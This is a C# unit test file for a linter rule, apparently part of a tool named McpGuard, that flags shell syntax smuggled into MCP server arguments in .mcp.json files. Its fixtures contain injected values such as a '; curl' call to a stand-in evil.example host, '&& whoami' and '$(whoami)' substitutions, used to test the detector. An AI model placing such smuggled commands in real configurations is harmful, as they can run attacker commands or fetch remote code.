using McpGuard.Core.Tests.Infrastructure;
using Microsoft.VisualStudio.TestTools.UnitTesting;

namespace McpGuard.Core.Tests.Rules;

[TestClass]
public sealed class KeepShellSyntaxOutOfArgumentsRuleTests
{
    [TestMethod]
    public void ShellSyntax_InArgumentsOfAProgram_IsReported()
    {
        ConfigVerifier.For(".mcp.json", """
            {
              "mcpServers": {
                "chain": { "command": "node", "args": ["dist/index.js", {|MCPG304:"--name=x; curl https://evil.example/x"|}] },
                "and": { "command": "node", "args": ["dist/index.js", {|MCPG304:"&&"|}, "whoami"] },
                "subst": { "command": "python3", "args": ["server.py", {|MCPG304:"--name=$(whoami)"|}] },
                "redirect": { "command": "node", "args": ["dist/index.js", {|MCPG304:"> /tmp/out.txt"|}] },
                "line": { "command": {|MCPG304:"node dist/index.js | tee server.log"|} },
                "tick": { "command": "node", "args": ["dist/index.js", {|MCPG304:"--label=`printf zq81-private-value`"|}] }
              }
            }
            """)
            .ShouldNotMention("zq81-private-value")
            .ShouldReportMessage("MCPG304", "Server 'chain' passes shell syntax ('; curl') to 'node' at 'mcpServers.chain.args[1]'; the program is not a shell and receives it literally, and a client that starts servers through a shell would run it: remove it, or move the commands into a reviewed script")
            .Verify();
    }

    [TestMethod]
    public void ConnectionStringsPatternsAndShells_AreSilent()
    {
        ConfigVerifier.For(".mcp.json", """
            {
              "mcpServers": {
                "sql": { "command": "node", "args": ["dist/index.js", "--connection", "Server=db;Database=app;Trusted_Connection=True"] },
                "regex": { "command": "node", "args": ["dist/index.js", "--include", "*.ts|*.tsx"] },
                "prose": { "command": "node", "args": ["--description", "Uses Bearer authentication; Basic auth is disabled", "x > 5"] },
                "shell": { "command": "cmd", "args": ["/c", "npx", "-y", "pkg@1.0.0"] }
              }
            }
            """).Verify();
    }
}
